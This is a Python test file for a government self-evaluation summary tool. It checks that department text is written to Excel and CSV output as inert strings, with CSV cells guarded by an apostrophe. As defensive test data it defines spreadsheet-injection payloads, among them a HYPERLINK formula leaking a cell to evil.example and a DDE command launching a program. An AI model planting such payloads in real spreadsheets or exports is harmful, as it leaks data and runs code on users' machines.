"""selfeval summary on files departments sent (issue 21): their text reaches the bureau as text.

A department name, an outline, an indicator's name, a reason, an unknown key or a file name that
looks like a formula or a link is written to the workbook as a string, and to the CSV with a leading
apostrophe where a spreadsheet would start a formula; the only formulas are selfeval's own totals.
Each hostile file is written here, from an example's text, so the cases stay readable in one table.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.utils import get_column_letter

from selfeval_cli.cli import cli
from selfeval_cli.commands.summary import DepartmentRow, FileSummary
from selfeval_cli.commands.workbook import DEPARTMENT_COLUMNS, csv_bytes, workbook_bytes

from ..conftest import FIXTURES, OTHER, TABLE_EXAMPLE

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看详情")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = {  # what each would become if XlsxWriter guessed from the text, or a spreadsheet from the CSV
    "hyperlink-formula": HYPERLINK,  # a formula that sends the cell beside it to another site
    "formula": "=1+2",
    "array-formula": "{=1+2}",
    "plus": "+1+2",
    "minus": "-1+2",
    "dde": DDE,  # a DDE call that starts a program
    "url": "http://evil.example/局",  # a link
    "external-link": "external:\\\\host\\share\\x.xlsx",  # XlsxWriter's link to another workbook
}
# What OWASP lists as the start of a formula; a CSV text cell starting so gets an apostrophe.
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
REASON = "一个站点因选址调整推迟一个月验收；今后项目入库前完成选址论证。"
# The full example's figures: amounts, rates (a negative one too), people.
EXAMPLE_FIGURES = (("年初预算数（万元）", "1250.80", 1250.80), ("执行率（报告）", "97.62%", 0.9762),
                   ("“三公”经费变动率", "-4.71%", -0.0471), ("编制（人）", "36", 36), ("自评总分", "95.99", 95.99))
TOTAL_COLUMNS = {get_column_letter(i + 1) for i, c in enumerate(DEPARTMENT_COLUMNS) if c.total}
# selfeval's own formulas: these functions, cell references, and these texts of its own (the 计入合计 mark, an
# empty cell, the total row's label) — never a data text, never another function (HYPERLINK, WEBSERVICE…).
FORMULA_FUNCTIONS = {"SUMPRODUCT", "SUBTOTAL", "OFFSET", "ROW", "IFERROR"}
FORMULA_TEXTS = re.compile(r'"(是|合计：\d{4} 年度、没有错误的 | 个部门（同一部门只计一份）|)"')


@dataclass(frozen=True)
class Case:
    """Data files to write into a folder, and where their text must appear in the workbook."""

    files: dict[str, str]
    """File name → YAML text."""
    cells: tuple[tuple[str, str, str], ...]
    """(sheet, column header, the exact text) — a string cell holding that text must be in that column."""
    figures: tuple[tuple[str, str, float], ...]
    """(部门汇总's column header, as the CSV shows the figure, the number the workbook holds) — unchanged."""


def _replaced(text: str, replacements: list[tuple[str, str]]) -> str:
    """``text`` with each (old, new) replaced; each old must be there once, so a changed example fails loudly."""
    for old, new in replacements:
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    return text


def hostile_text(text: str) -> Case:
    """The full example with ``text`` as department name, outline, an indicator and a reason; and an unknown key."""
    quoted = json.dumps(text, ensure_ascii=False)  # a JSON string is a YAML double-quoted scalar
    department = _replaced(TABLE_EXAMPLE.read_text(encoding="utf-8"), [
        ("  name: 示例县文化旅游广电体育局\n", f"  name: {quoted}\n"),
        ("year: 2025\n", f"year: 2025\noutline: {quoted}\n"),
        ("{name: 阅读推广活动场次,", f"{{name: {quoted},"),
        (f"reason: {REASON}", f"reason: {quoted}"),
    ])
    unknown_key = OTHER.read_text(encoding="utf-8") + f"{quoted}: 1\n"
    return Case({"a_部门.yaml": department, "b_未知字段.yaml": unknown_key}, (
        ("部门汇总", "部门", text), ("部门汇总", "提纲", text), ("自评指标", "部门", text),
        ("自评指标", "三级指标", text), ("自评指标", "偏差原因分析及改进措施", text), ("问题清单", "字段", text)),
        EXAMPLE_FIGURES)


CASES = [
    *(pytest.param(hostile_text(text), id=name) for name, text in HOSTILE.items()),
    # A file name: the folder is summarized from inside, so the 数据文件 cells are the bare name.
    pytest.param(Case({"=8+8.yaml": (FIXTURES / "table_four_mistakes.yaml").read_text(encoding="utf-8")},
                      (("部门汇总", "数据文件", "=8+8.yaml"), ("问题清单", "数据文件", "=8+8.yaml"),
                       ("自评指标", "数据文件", "=8+8.yaml")),
                      (("年初预算数（万元）", "1250.80", 1250.80), ("执行率（自评表）", "97.37%", 0.9737),
                       ("自评总分", "90.99", 90.99))), id="file-name"),
    # Not hostile at all: an ordinary 等于 indicator's 年度指标值 reads "=100%" (it was a formula worth 0).
    pytest.param(Case({"a.yaml": TABLE_EXAMPLE.read_text(encoding="utf-8")}, (("自评指标", "年度指标值", "=100%"),),
                      EXAMPLE_FIGURES), id="equal-target"),
]


def summarize(case: Case, tmp_path: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch, suffix: str) -> Path:
    """Write the case's files into a folder and run ``selfeval summary .`` from inside it."""
    folder = tmp_path / "各单位"
    folder.mkdir()
    for name, text in case.files.items():
        (folder / name).write_text(text, encoding="utf-8")
    out = tmp_path / f"汇总.{suffix}"
    monkeypatch.chdir(folder)
    result = runner.invoke(cli, ["summary", ".", "-o", str(out)])
    assert result.exit_code == 0, result.output
    return out


def column(sheet: Any, header: str) -> list[Any]:
    """The cells under ``header`` (the first row), below it."""
    headers = [c.value for c in sheet[1]]
    return [row[headers.index(header)] for row in sheet.iter_rows(min_row=2)]


def assert_own_formula(formula: str) -> None:
    """A formula made of selfeval's functions, cell references and texts only."""
    assert all(FORMULA_TEXTS.fullmatch(text) for text in re.findall(r'"[^"]*"', formula)), formula
    code = re.sub(r'"[^"]*"', '""', formula)
    assert set(re.findall(r"([A-Z]+)\(", code)) <= FORMULA_FUNCTIONS, formula
    assert re.fullmatch(r'=[A-Z0-9(),:\-/<>=&"]+', code), formula


def test_the_formula_check_refuses_what_is_not_ours() -> None:
    assert_own_formula('=IFERROR(SUMPRODUCT(SUBTOTAL(109,OFFSET(G2,ROW(G2:G5)-ROW(G2),0)),--(C2:C5="是")),"")')
    for formula in ("=HYPERLINK(B2)", '=SUM(A1)&"=1+2"', "=1+2", "=A1 B2", '="合计："&A2'):
        with pytest.raises(AssertionError):
            assert_own_formula(formula)


def assert_inert(path: Path) -> None:
    """No cell is a link, and the only formulas are selfeval's own totals in the last row of 部门汇总."""
    book = openpyxl.load_workbook(path)
    for sheet in book:
        assert not sheet._hyperlinks
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.hyperlink is None, cell.coordinate
                if cell.data_type == "f":
                    assert sheet.title == "部门汇总" and cell.row == sheet.max_row, (cell.coordinate, cell.value)
                    assert_own_formula(cell.value)
    totals = book["部门汇总"][book["部门汇总"].max_row]
    formulas = {c.column_letter for c in totals if c.data_type == "f"}
    assert TOTAL_COLUMNS <= formulas <= TOTAL_COLUMNS | {"A"}  # the totals are still there (and the label)
    with zipfile.ZipFile(path) as archive:  # nor a link in the file that openpyxl might not bind to a cell
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):  # the sheets and their relationships; the text is elsewhere
                assert b"<hyperlink" not in archive.read(name) and b"/hyperlink" not in archive.read(name), name


@pytest.mark.parametrize("case", CASES)
def test_data_text_is_a_string_in_the_workbook(case: Case, tmp_path: Path, runner: CliRunner,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    out = summarize(case, tmp_path, runner, monkeypatch, "xlsx")
    book = openpyxl.load_workbook(out)
    for sheet, header, text in case.cells:
        found = [cell for cell in column(book[sheet], header) if cell.value == text]
        assert found, (sheet, header, text)
        assert all(cell.data_type == "s" for cell in found), (sheet, header, text)
    for header, _, number in case.figures:  # the figures beside the text are still numbers
        assert [c for c in column(book["部门汇总"], header)[:-1] if c.value == pytest.approx(number)
                and c.data_type == "n"], (header, number)
    scores = [c for c in column(book["自评指标"], "得分") if c.value is not None]
    assert scores and all(c.data_type == "n" for c in scores)
    assert_inert(out)


def csv_rows(raw: bytes) -> list[dict[str, str]]:
    """The CSV's rows by header, after checking the BOM and the CRLF line ends stay."""
    assert raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\r\n")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def guarded(text: str) -> str:
    """What a text cell of the CSV must hold: an apostrophe first where a formula would start."""
    return "'" + text if text.startswith(DANGEROUS_STARTS) else text


@pytest.mark.parametrize("case", CASES)
def test_csv_text_that_would_start_a_formula_gets_an_apostrophe(case: Case, tmp_path: Path, runner: CliRunner,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    out = summarize(case, tmp_path, runner, monkeypatch, "csv")
    rows = csv_rows(out.read_bytes())
    for sheet, header, text in case.cells:
        if sheet == "部门汇总":  # the CSV is that sheet only
            assert guarded(text) in [row[header] for row in rows], (header, text)
    for header, shown, _ in case.figures:  # selfeval's own figures are left as they are, a negative rate too
        assert shown in [row[header] for row in rows], (header, shown)
    assert not any(value.startswith(DANGEROUS_STARTS) for row in rows for value in row.values()
                   if not re.fullmatch(r"-\d+\.\d\d%?", value))


@pytest.mark.parametrize(("text", "shown"), [
    ("=7+7", "'=7+7"), ("+1+2", "'+1+2"), ("-1+2", "'-1+2"), (DDE, "'" + DDE), ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"), ("{=1+2}", "{=1+2}"), ("http://evil.example/局", "http://evil.example/局"),
    ("教育局", "教育局"), ("'=1+2", "'=1+2"),
])
def test_csv_guards_each_text_column_by_its_kind(text: str, shown: str) -> None:
    # Tabs and carriage returns cannot pass validation in a name, but a file name or an unreadable file's raw
    # name can hold them: here every text column gets the text, every figure a negative value.
    row = DepartmentRow(file=text, name=text, outline=text, grade=text, note=text, year=2025,
                        initial=Decimal("-1.50"), rate=Decimal("-8.77"), three_public_change=Decimal("-8.77"),
                        total_score=Decimal("-0.50"), errors=1)
    [line] = csv_rows(csv_bytes([FileSummary(Path(text), row)]))
    for name in ("部门", "提纲", "等级", "说明", "数据文件"):
        assert line[name] == shown, name
    assert (line["年度"], line["年初预算数（万元）"], line["执行率（报告）"], line["“三公”经费变动率"],
            line["自评总分"], line["错误"]) == ("2025", "-1.50", "-8.77%", "-8.77%", "-0.50", "1")


def test_a_hostile_row_built_in_memory_is_inert_in_the_workbook(tmp_path: Path) -> None:
    row = DepartmentRow(file="=8+8.yaml", name=HYPERLINK, outline="{=1+2}", grade="http://evil.example/局",
                        note=DDE, year=2025, initial=Decimal("-1.50"), three_public_change=Decimal("-8.77"),
                        authorized=3, in_post=2)
    out = tmp_path / "汇总.xlsx"
    out.write_bytes(workbook_bytes([FileSummary(Path("=8+8.yaml"), row)]))
    cells = {c.value: c for c in openpyxl.load_workbook(out)["部门汇总"][2]}
    for text in ("=8+8.yaml", HYPERLINK, "{=1+2}", "http://evil.example/局", DDE):
        assert cells[text].data_type == "s", text
    assert cells[-1.5].data_type == "n" and cells[-0.0877].number_format == "0.00%"
    assert_inert(out)


@pytest.mark.pdf
def test_libreoffice_imports_the_csv_without_formulas(tmp_path: Path, runner: CliRunner,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice is not installed (CI installs it); the openpyxl tests cover the workbook")
    case = hostile_text("=7+7")
    case.files["=8+8.yaml"] = TABLE_EXAMPLE.read_text(encoding="utf-8")
    out = summarize(case, tmp_path, runner, monkeypatch, "csv")
    done = subprocess.run(["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
                           "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path / "lo"),
                           str(out)], capture_output=True, text=True, timeout=180, check=False)
    converted = tmp_path / "lo" / "汇总.xlsx"
    assert done.returncode == 0 and converted.is_file(), done.stderr
    sheet = openpyxl.load_workbook(converted).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {"'=7+7", "'=8+8.yaml", "示例县文化旅游广电体育局"} <= values
